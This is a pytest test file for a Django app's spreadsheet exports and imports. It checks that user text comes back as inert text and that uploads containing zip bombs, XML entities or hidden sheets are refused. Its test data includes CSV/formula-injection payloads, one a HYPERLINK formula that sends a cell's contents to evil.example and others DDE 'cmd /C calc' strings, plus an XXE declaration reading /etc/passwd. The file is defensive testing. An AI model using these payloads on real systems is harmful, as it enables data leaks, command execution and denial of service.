"""Every workbook the app serves, downloaded through its page or API operation and read back (issue #11, 2).

User text starting with "=", "+", "-", "@", a tab or a carriage return must come back as a text cell
holding exactly that text, styled quotePrefix (so editing it keeps it text), with no formula anywhere in
the sheet XML; and every XLSX download says so in one correct Content-Type.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterable

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from giaoban.api.testing import bearer
from giaoban.delegations.models import Delegation
from giaoban.delegations.tests.factories import DelegationFactory
from giaoban.org.models import Organisation
from giaoban.reports.models import Indicator
from giaoban.reports.tests.test_documents import build_report
from giaoban.tasks.models import Task
from giaoban.tasks.tests.factories import make_task

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+84 912 345 678 gọi ngay",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 sau dấu tab",
    "\r=1+1 sau ký tự CR",
]


def _content(response) -> bytes:
    """The workbook served, checked to print as an office prints it (assert_print_ready)."""
    assert response.status_code == 200, response.content[:300] if not response.streaming else response
    assert response["Content-Type"] == XLSX
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_print_ready(content)
    return content


def assert_print_ready(content: bytes) -> None:
    """Issue #16, 5: every sheet prints on A4, landscape exactly when its columns are wider than a portrait
    page, one page wide, its header rows repeated, the title and "Trang &P/&N" in the footer."""
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        setup = sheet.page_setup
        assert int(setup.paperSize) == 9, sheet.title  # A4
        width = sum(d.width or 8.43 for d in sheet.column_dimensions.values() if not d.hidden)
        assert setup.orientation == ("landscape" if width > 100 else "portrait"), (sheet.title, width)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert (int(setup.fitToWidth), int(setup.fitToHeight)) == (1, 0), sheet.title
        assert re.fullmatch(r"\$\d+:\$\d+", sheet.print_title_rows or ""), sheet.title
        first, _last = (int(n) for n in re.findall(r"\d+", sheet.print_title_rows))
        assert any(cell.value not in (None, "") for cell in sheet[first]), (sheet.title, "header row empty")
        assert sheet.oddFooter.left.text, sheet.title
        assert "&P" in sheet.oddFooter.right.text and "&N" in sheet.oddFooter.right.text, sheet.title


def assert_inert(content: bytes, texts: Iterable[str]) -> None:
    """Each text is in some cell of the workbook, exactly, as a quote-prefixed string; no formula at all."""
    wanted = set(texts)
    found = {}
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in wanted:
                    found[cell.value] = cell
    assert set(found) == wanted, wanted - set(found)
    for text, cell in found.items():
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.quotePrefix, text
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >]", xml), name
                assert 't="str"' not in xml  # a formula's cached string result


def _rename(unit: Organisation, name: str) -> None:
    # Straight to the database: the forms trim leading tabs and line breaks, an import or an older
    # record may not have.
    Organisation.objects.filter(pk=unit.pk).update(name=name)


def test_delegation_export_writes_user_text_as_inert_text(world, client_for):
    for payload in PAYLOADS:
        delegation = DelegationFactory(lead_unit=world.unit)
        Delegation.objects.filter(pk=delegation.pk).update(name=payload, notes=f"{payload} (ghi chú)")
    response = client_for(world.secretariat).get(reverse("delegations:delegation-export"))
    assert_inert(_content(response), [*PAYLOADS, *(f"{p} (ghi chú)" for p in PAYLOADS)])


def test_the_import_template_lists_unit_names_as_inert_text_on_the_page_and_the_api(
    world, client, client_for
):
    _rename(world.unit, PAYLOADS[0])
    _rename(world.other_unit, PAYLOADS[4])
    page = client_for(world.secretariat).get(reverse("delegations:import-template"))
    assert_inert(_content(page), [PAYLOADS[0], PAYLOADS[4]])
    client.logout()
    api = client.get("/api/v1/delegations/import-template", headers=bearer(world.secretariat))
    assert_inert(_content(api), [PAYLOADS[0], PAYLOADS[4]])


def test_the_bulk_task_sheet_and_the_dashboard_write_titles_as_inert_text(world, client_for):
    for payload in PAYLOADS:
        task = make_task(world)
        Task.objects.filter(pk=task.pk).update(title=payload)
    client = client_for(world.officer)
    assert_inert(_content(client.get(reverse("tasks:bulk-export"))), PAYLOADS)
    _rename(world.unit, PAYLOADS[2])
    dashboard = client_for(world.secretariat).get(reverse("tasks:dashboard-export"))
    assert_inert(_content(dashboard), [PAYLOADS[2]])


def test_the_report_annex_writes_indicator_and_unit_names_as_inert_text(world, client, client_for):
    report = build_report(world, approve=False)
    indicators = list(Indicator.objects.filter(template=report.request.template).order_by("position"))
    for indicator, payload in zip(indicators, PAYLOADS, strict=False):
        Indicator.objects.filter(pk=indicator.pk).update(name=payload)
    _rename(world.unit, PAYLOADS[4])
    texts = [*PAYLOADS[: len(indicators)], PAYLOADS[4]]
    page = client_for(world.secretariat).get(reverse("reports:report-annex", args=[report.pk]))
    assert_inert(_content(page), texts)
    client.logout()
    api = client.get(f"/api/v1/reports/{report.pk}/annex.xlsx", headers=bearer(world.secretariat))
    assert_inert(_content(api), texts)


def test_the_import_errors_workbook_and_a_wide_export_print_landscape_and_a_narrow_one_portrait():
    """The import-errors workbook (8 + 24 + 100 units wide) prints landscape, its title in the footer."""
    from giaoban.delegations.xlsx import write_errors

    output = write_errors(
        [{"row": 4, "column": "G", "message": "Không rõ quốc gia & vùng"}], source_name="a.xlsx"
    )
    content = output.read()
    assert_print_ready(content)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.oddFooter.left.text == "LỖI TRONG TỆP NHẬP ĐOÀN"


# --- Opening uploads: zip bombs, XML entities, hidden sheets (issue #11, 4) -------------------------------

ROW = ["Đoàn ra", "Đoàn làm việc tại Quảng Tây", "Sở Ngoại vụ", "", "", 5, "Trung Quốc", "", "Hội đàm",
       "01/03/2017", "03/03/2017", "", ""]  # fmt: skip
XXE = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
BOMB_BYTES = 200 * 1024 * 1024


def _delegation_workbook(rows, *, hidden_first: list | None = None, first_title: str = "Nháp") -> bytes:
    """The template's header and `rows`; with `hidden_first`, a hidden sheet of those rows comes first."""
    from giaoban.delegations.xlsx import COLUMNS, SHEET_TITLE

    workbook = Workbook()
    sheet = workbook.active
    if hidden_first is not None:
        sheet.title = first_title
        for row in [[c.label for c in COLUMNS], *hidden_first]:
            sheet.append(row)
        sheet.sheet_state = "hidden"
        sheet = workbook.create_sheet(SHEET_TITLE)
    else:
        sheet.title = SHEET_TITLE
    for row in [[c.label for c in COLUMNS], *rows]:
        sheet.append(row)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def _rewrite(data: bytes, member: str, *, before: bytes = b"", filler: int = 0, inject: bytes = b"") -> bytes:
    """The workbook with `member` changed: `before` after its XML declaration, `filler` spaces (streamed,
    never held in memory) and `inject` just inside its root element."""
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = source.read(info)
            if info.filename != member:
                target.writestr(info.filename, content)
                continue
            declaration_end = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
            root_end = content.index(b">", content.index(b"<", declaration_end)) + 1
            with target.open(info.filename, "w", force_zip64=True) as stream:
                stream.write(content[:declaration_end] + before + content[declaration_end:root_end] + inject)
                chunk = b" " * (1024 * 1024)
                for _ in range(filler // len(chunk)):
                    stream.write(chunk)
                stream.write(content[root_end:])
    return output.getvalue()


def _upload(data: bytes, name: str = "doan.xlsx") -> io.BytesIO:
    stream = io.BytesIO(data)
    stream.name = name
    return stream


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """About 200 KB that unpacks to 200 MB of sheet XML, valid rows after the filler."""
    return _rewrite(_delegation_workbook([ROW]), "xl/worksheets/sheet1.xml", filler=BOMB_BYTES)


def test_a_zip_bomb_is_refused_before_parsing_on_the_page_and_the_api(world, client, client_for, bomb):
    assert len(bomb) < 400 * 1024
    page = client_for(world.secretariat).post(
        reverse("delegations:delegation-import"), {"file": _upload(bomb)}
    )
    assert page.status_code == 200
    result = page.context["result"]
    assert [error.code for error in result.errors] == ["too_large_unpacked"]
    assert "Tệp bảng tính khi giải nén quá lớn (200 MB, tối đa 150 MB)" in page.content.decode()
    client.logout()
    api = client.post(
        "/api/v1/delegations/import", {"file": _upload(bomb)}, headers=bearer(world.secretariat)
    )
    assert api.status_code == 422
    assert [error["code"] for error in api.json()["errors"]] == ["too_large_unpacked"]
    assert not Delegation.objects.exists()


def test_an_overcompressed_part_is_refused_even_under_the_size_cap(world, client_for):
    data = _rewrite(_delegation_workbook([ROW]), "xl/worksheets/sheet1.xml", filler=20 * 1024 * 1024)
    page = client_for(world.secretariat).post(
        reverse("delegations:delegation-import"), {"file": _upload(data)}
    )
    assert [error.code for error in page.context["result"].errors] == ["compression_ratio"]
    assert "nén bất thường (phần “xl/worksheets/sheet1.xml”)" in page.content.decode()
    assert not Delegation.objects.exists()


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_an_xml_entity_in_a_workbook_answers_422_and_a_page_error_not_500(world, client, client_for, member):
    data = _rewrite(_delegation_workbook([ROW]), member, before=XXE)
    page = client_for(world.secretariat).post(
        reverse("delegations:delegation-import"), {"file": _upload(data)}
    )
    assert page.status_code == 200
    assert [error.code for error in page.context["result"].errors] == ["unsafe_xml"]
    assert "chứa khai báo XML không được phép" in page.content.decode()
    client.logout()
    api = client.post(
        "/api/v1/delegations/import", {"file": _upload(data)}, headers=bearer(world.secretariat)
    )
    assert api.status_code == 422
    assert [error["code"] for error in api.json()["errors"]] == ["unsafe_xml"]
    assert not Delegation.objects.exists()


def test_a_hidden_first_sheet_is_not_imported(world):
    from giaoban.delegations import services

    hidden = [["Đoàn ra", "Đoàn trong trang ẩn", "Sở Ngoại vụ", "", "", 5, "Lào", "", "Hội đàm",
               "01/04/2017", "03/04/2017", "", ""]]  # fmt: skip
    data = _delegation_workbook([ROW], hidden_first=hidden)
    result = services.delegation_import(actor=world.secretariat, file=io.BytesIO(data))
    assert result.ok and result.created == 1
    assert list(Delegation.objects.values_list("name", flat=True)) == ["Đoàn làm việc tại Quảng Tây"]


def test_the_template_sheet_is_read_when_another_visible_sheet_comes_first(world):
    from giaoban.delegations import services

    workbook = load_workbook(io.BytesIO(_delegation_workbook([ROW])))
    notes = workbook.create_sheet("Ghi chú", 0)
    notes.append(["Hướng", "Tên đoàn", "Đơn vị chủ trì"])  # a header-like row, no delegation
    output = io.BytesIO()
    workbook.save(output)
    result = services.delegation_import(actor=world.secretariat, file=io.BytesIO(output.getvalue()))
    assert result.ok and result.created == 1


def _task_sheet(client, tasks, *, percent: int) -> Workbook:
    book = load_workbook(io.BytesIO(client.get(reverse("tasks:bulk-export")).content))
    sheet = book.active
    for row, _task in enumerate(tasks, start=4):
        sheet.cell(row=row, column=8, value=percent)
        sheet.cell(row=row, column=9, value=f"Đã đạt {percent}%")
    return book


def test_the_bulk_task_upload_reads_the_visible_sheet_and_refuses_entities_and_bombs(world, client_for):
    from giaoban.tasks.models import ProgressUpdate

    task = make_task(world)
    client = client_for(world.officer)
    book = _task_sheet(client, [task], percent=90)
    visible = book.copy_worksheet(book.active)  # the hidden original keeps 90 %
    visible.title = "Cập nhật tiến độ (2)"
    visible["H4"], visible["I4"] = 40, "Đã đạt 40%"
    book.active.sheet_state = "hidden"
    book.active = 1
    output = io.BytesIO()
    book.save(output)
    data = output.getvalue()

    def post(content: bytes):
        return client.post(reverse("tasks:bulk-upload"), {"file": _upload(content, "tien-do.xlsx")})

    xxe = post(_rewrite(data, "xl/worksheets/sheet2.xml", before=XXE))  # the visible sheet
    assert xxe.status_code == 200
    assert "chứa khai báo XML không được phép" in xxe.context["upload_errors"][0]
    bombed = post(_rewrite(data, "xl/worksheets/sheet1.xml", filler=BOMB_BYTES))
    assert "khi giải nén quá lớn" in bombed.context["upload_errors"][0]
    assert not ProgressUpdate.objects.exists()
    assert post(data).status_code == 302
    assert list(ProgressUpdate.objects.values_list("percent", flat=True)) == [40]


def test_only_the_shared_module_opens_workbooks_or_spells_their_type():
    """Uploads are opened by giaoban/core/xlsx.py alone, and the XLSX type is spelt in core/uploads.py
    alone: a new import or download that bypassed them would skip the checks tested above."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "giaoban"
    sources = {
        path.relative_to(root).as_posix(): path.read_text(encoding="utf-8")
        for path in root.rglob("*.py")
        if "tests" not in path.parts
    }
    assert [name for name, text in sources.items() if "load_workbook" in text] == ["core/xlsx.py"]
    assert [name for name, text in sources.items() if "spreadsheetml" in text] == ["core/uploads.py"]
